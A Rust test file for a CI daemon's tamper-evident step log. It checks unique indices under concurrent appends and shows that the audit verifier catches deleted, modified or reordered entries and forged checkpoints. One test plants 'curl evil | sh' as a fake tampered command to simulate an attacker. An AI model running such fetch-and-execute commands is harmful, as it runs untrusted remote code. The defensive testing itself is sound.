//! The step log in the state database: appends from two controllers never share an index, and
//! `kiln audit verify`'s check ([`steplog::verify`]) passes on an untouched log and names each
//! rewrite of history an attacker with write access to the database can make.

use std::collections::{BTreeMap, BTreeSet};

use kiln_attest::tlog::{NoteSigner, TlogProof};
use kiln_core::Sha256Digest;
use kiln_daemon::state::testing::{TestDatabase, sample_record, tamper};
use kiln_daemon::state::{Backend, NewRun, NewStep, State};
use kiln_daemon::steplog::{self, LogEntry, VerifyFinding};
use time::OffsetDateTime;

kiln_daemon::backend_tests! {
    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    two_controllers_never_give_two_entries_one_index;
    #[tokio::test] an_untouched_log_verifies_and_proves_every_step_record;
    #[tokio::test] a_deleted_step_record_is_detected;
    #[tokio::test] a_deleted_log_entry_is_detected;
    #[tokio::test] a_modified_step_record_is_detected;
    #[tokio::test] a_modified_log_entry_is_detected;
    #[tokio::test] a_reordered_log_is_detected;
    #[tokio::test] a_forged_checkpoint_is_detected;
    #[tokio::test] the_daemon_refuses_to_sign_over_a_rewritten_history;
}

const LOG_NAME: &str = "kiln.test/steps";
const RUNS: usize = 3;
const STEPS: usize = 3;

fn at(secs: i64) -> OffsetDateTime {
    OffsetDateTime::from_unix_timestamp(1_800_000_000 + secs).unwrap()
}

/// A fresh database with `RUNS` all-in-one runs of `STEPS` steps each, every one started,
/// recorded and finished through the state (so logged), and a checkpoint signed after each
/// run. The log holds `RUNS * (STEPS + 2)` entries.
async fn logged(backend: Backend) -> (tempfile::TempDir, TestDatabase, State, NoteSigner) {
    let dir = tempfile::tempdir().unwrap();
    let db = TestDatabase::new(backend, &dir.path().join("state.sqlite")).await;
    let state = State::connect(db.database()).await.unwrap();
    let signer = NoteSigner::generate(LOG_NAME).unwrap();
    let sha = Sha256Digest::of(b"pipeline");
    let names: Vec<String> = (0..STEPS).map(|i| format!("s{i}")).collect();
    let no_labels = BTreeMap::new();
    for r in 0..RUNS {
        let run = format!("run-{r}");
        state
            .create_run(&NewRun {
                id: &run,
                pipeline_name: "p",
                pipeline_file: "p.yaml",
                pipeline_sha256: &sha,
                started_at: at(0),
                steps: names
                    .iter()
                    .map(|name| NewStep {
                        name,
                        needs: &[],
                        requires: &no_labels,
                    })
                    .collect(),
                submission: None,
            })
            .await
            .unwrap();
        for name in &names {
            state.record_step(&sample_record(&run, name)).await.unwrap();
        }
        state.finish_run(&run, true, at(2)).await.unwrap();
        steplog::sign_checkpoint(&state, &signer, at(3))
            .await
            .unwrap()
            .expect("the log grew");
    }
    (dir, db, state, signer)
}

async fn findings(state: &State, signer: &NoteSigner) -> Vec<VerifyFinding> {
    steplog::verify(state, &signer.verifier())
        .await
        .unwrap()
        .findings
}

async fn two_controllers_never_give_two_entries_one_index(backend: Backend) {
    const PER_TASK: usize = 50;
    const TASKS_PER_STATE: usize = 4;
    let dir = tempfile::tempdir().unwrap();
    let db = TestDatabase::new(backend, &dir.path().join("state.sqlite")).await;
    let first = State::connect(db.database()).await.unwrap();
    let second = State::connect(db.database()).await.unwrap();
    let start = std::sync::Arc::new(tokio::sync::Barrier::new(2 * TASKS_PER_STATE));
    let mut tasks = tokio::task::JoinSet::new();
    for (s, state) in [first.clone(), second.clone()].into_iter().enumerate() {
        for t in 0..TASKS_PER_STATE {
            let state = state.clone();
            let start = start.clone();
            tasks.spawn(async move {
                start.wait().await;
                let mut got = Vec::new();
                for i in 0..PER_TASK {
                    let run = format!("r{s}-{t}-{i}");
                    let entry = LogEntry::StepRecord {
                        run: &run,
                        step: "x",
                        worker: "w",
                        record_json: "{}",
                    };
                    got.push(state.append_log_entry(&entry).await.unwrap());
                }
                got
            });
        }
    }
    let mut indices = Vec::new();
    while let Some(got) = tasks.join_next().await {
        indices.extend(got.unwrap());
    }
    let total = 2 * TASKS_PER_STATE * PER_TASK;
    let unique: BTreeSet<u64> = indices.iter().copied().collect();
    assert_eq!(unique.len(), total, "an index was handed out twice");
    assert_eq!(unique, (0..total as u64).collect(), "indices have a gap");
    assert_eq!(first.log_size().await.unwrap(), total as u64);
    let stored = second.log_entries_below(u64::MAX).await.unwrap();
    assert_eq!(stored.len(), total);
    // Each appended entry sits at the index its append returned.
    assert!(stored.iter().enumerate().all(|(i, e)| e.index == i as u64));
}

async fn an_untouched_log_verifies_and_proves_every_step_record(backend: Backend) {
    let (_dir, _db, state, signer) = logged(backend).await;
    let report = steplog::verify(&state, &signer.verifier()).await.unwrap();
    assert!(report.is_ok(), "{:?}", report.findings);
    assert_eq!(report.log_size, (RUNS * (STEPS + 2)) as u64);
    assert_eq!(report.checkpoints, RUNS);
    assert_eq!(report.verified_size, report.log_size);

    // Each run's step records come with inclusion proofs that verify offline.
    let log = steplog::log_verifier(&signer.verifier());
    let proofs = steplog::run_proofs(&state, &signer, "run-1", at(4))
        .await
        .unwrap();
    assert_eq!(proofs.steps.len(), STEPS);
    for (step, descriptor) in &proofs.steps {
        let entry = descriptor.annotations["entry"].as_str().unwrap();
        let proof = descriptor.annotations["tlogProof"].as_str().unwrap();
        let proof = TlogProof::parse(proof.as_bytes()).unwrap();
        let checkpoint = proof.verify(entry.as_bytes(), &log).unwrap();
        assert_eq!(checkpoint.size, report.log_size);
        assert_eq!(
            descriptor.uri.as_deref(),
            Some(format!("kiln:steplog/{}", proof.index).as_str())
        );
        assert!(entry.contains(&format!("\"step\":\"{step}\"")), "{entry}");
    }

    // Consistency between the first and the last checkpoint.
    let (proof, old, new) = steplog::consistency(&state, 5, report.log_size)
        .await
        .unwrap();
    let (old, new) = (
        log.open(old.as_bytes()).unwrap(),
        log.open(new.as_bytes()).unwrap(),
    );
    kiln_attest::tlog::verify_consistency(old.size, new.size, &old.root, &new.root, &proof)
        .unwrap();
}

async fn a_deleted_step_record_is_detected(backend: Backend) {
    let (_dir, _db, state, signer) = logged(backend).await;
    let n = tamper(
        &state,
        "DELETE FROM step_records WHERE run_id = 'run-1' AND step = 's1'",
    )
    .await;
    assert_eq!(n, 1);
    let found = findings(&state, &signer).await;
    assert!(
        matches!(found.as_slice(), [VerifyFinding::RecordDeleted { run, step, .. }] if run == "run-1" && step == "s1"),
        "{found:?}"
    );
}

async fn a_deleted_log_entry_is_detected(backend: Backend) {
    let (_dir, _db, state, signer) = logged(backend).await;
    assert_eq!(
        tamper(&state, "DELETE FROM log_entries WHERE idx = 7").await,
        1
    );
    let found = findings(&state, &signer).await;
    assert!(
        found
            .iter()
            .any(|f| matches!(f, VerifyFinding::MissingEntry { index: 7 })),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|f| matches!(f, VerifyFinding::RecordNotLogged { run, .. } if run == "run-1")),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|f| f.to_string().contains("entries were deleted")),
        "{found:?}"
    );
}

async fn a_modified_step_record_is_detected(backend: Backend) {
    let (_dir, _db, state, signer) = logged(backend).await;
    let n = tamper(
        &state,
        "UPDATE step_records SET record_json = replace(record_json, '\"command\":\"true\"', '\"command\":\"curl evil | sh\"')
         WHERE run_id = 'run-2' AND step = 's0'",
    )
    .await;
    assert_eq!(n, 1);
    let found = findings(&state, &signer).await;
    assert!(
        matches!(found.as_slice(), [VerifyFinding::RecordModified { run, step, logged, stored, .. }]
            if run == "run-2" && step == "s0" && logged != stored),
        "{found:?}"
    );
}

async fn a_modified_log_entry_is_detected(backend: Backend) {
    let (_dir, _db, state, signer) = logged(backend).await;
    // Rewriting the entry too (and its cached leaf hash) to match a modified record is caught
    // by the signed checkpoints.
    tamper(
        &state,
        "UPDATE log_entries SET entry = replace(entry, '\"worker\":\"local\"', '\"worker\":\"other\"') WHERE idx = 2",
    )
    .await;
    let found = findings(&state, &signer).await;
    let text: Vec<String> = found.iter().map(ToString::to_string).collect();
    assert!(
        text.iter().any(|t| t.contains("root")),
        "a checkpoint root mismatch: {text:?}"
    );
    assert!(
        found
            .iter()
            .any(|f| matches!(f, VerifyFinding::LeafHash { index: 2 })),
        "{text:?}"
    );
}

async fn a_reordered_log_is_detected(backend: Backend) {
    let (_dir, _db, state, signer) = logged(backend).await;
    // Swap entries 6 and 8 (two step records of run-1).
    tamper(&state, "UPDATE log_entries SET idx = -1 WHERE idx = 6").await;
    tamper(&state, "UPDATE log_entries SET idx = 6 WHERE idx = 8").await;
    tamper(&state, "UPDATE log_entries SET idx = 8 WHERE idx = -1").await;
    let report = steplog::verify(&state, &signer.verifier()).await.unwrap();
    let text: Vec<String> = report.findings.iter().map(ToString::to_string).collect();
    assert!(!report.is_ok());
    // The first run's checkpoint (size 5) still matches; the later ones do not.
    assert_eq!(report.verified_size, (STEPS + 2) as u64, "{text:?}");
    assert!(
        text.iter()
            .filter(|t| t.contains("entries hash to"))
            .count()
            >= 2,
        "{text:?}"
    );
}

async fn a_forged_checkpoint_is_detected(backend: Backend) {
    let (_dir, _db, state, signer) = logged(backend).await;
    // Another key under the same name signs a checkpoint of a rewritten log.
    let forger = NoteSigner::generate(LOG_NAME).unwrap();
    let latest = state.latest_checkpoint().await.unwrap().unwrap();
    let forged = kiln_attest::tlog::Checkpoint {
        origin: LOG_NAME.into(),
        size: latest.size,
        root: kiln_attest::tlog::leaf_hash(b"rewritten history"),
        extensions: Vec::new(),
    }
    .sign(&forger)
    .unwrap();
    let n = tamper(
        &state,
        &format!(
            "UPDATE log_checkpoints SET note = '{}' WHERE size = {}",
            forged.replace('\'', "''"),
            latest.size
        ),
    )
    .await;
    assert_eq!(n, 1);
    let found = findings(&state, &signer).await;
    let text: Vec<String> = found.iter().map(ToString::to_string).collect();
    assert!(
        matches!(text.as_slice(), [t] if t.contains("the latest checkpoint is rejected")),
        "{text:?}"
    );
}

async fn the_daemon_refuses_to_sign_over_a_rewritten_history(backend: Backend) {
    let (_dir, db, state, signer) = logged(backend).await;
    tamper(
        &state,
        "UPDATE log_entries SET entry = replace(entry, '\"worker\":\"local\"', '\"worker\":\"other\"') WHERE idx = 2",
    )
    .await;
    let append = |state: State, run: &'static str| async move {
        state
            .append_log_entry(&LogEntry::StepRecord {
                run,
                step: "x",
                worker: "w",
                record_json: "{}",
            })
            .await
            .unwrap()
    };
    let signed = (RUNS * (STEPS + 2)) as u64;
    // The controller that read the entries before they were rewritten keeps signing the
    // history it read; the audit still names the rewritten entry.
    append(state.clone(), "run-8").await;
    assert_eq!(
        steplog::sign_checkpoint(&state, &signer, at(5))
            .await
            .unwrap(),
        Some(signed + 1)
    );
    assert!(
        findings(&state, &signer)
            .await
            .iter()
            .any(|f| matches!(f, VerifyFinding::LeafHash { index: 2 }))
    );
    // A controller reading the rewritten log from the database refuses to sign over it.
    let fresh = State::connect(db.database()).await.unwrap();
    append(fresh.clone(), "run-9").await;
    let refused = steplog::sign_checkpoint(&fresh, &signer, at(6)).await;
    assert!(
        matches!(refused, Err(steplog::StepLogError::Rewritten { size }) if size == signed + 1),
        "{refused:?}"
    );
    assert_eq!(state.log_checkpoints().await.unwrap().len(), RUNS + 1);
}
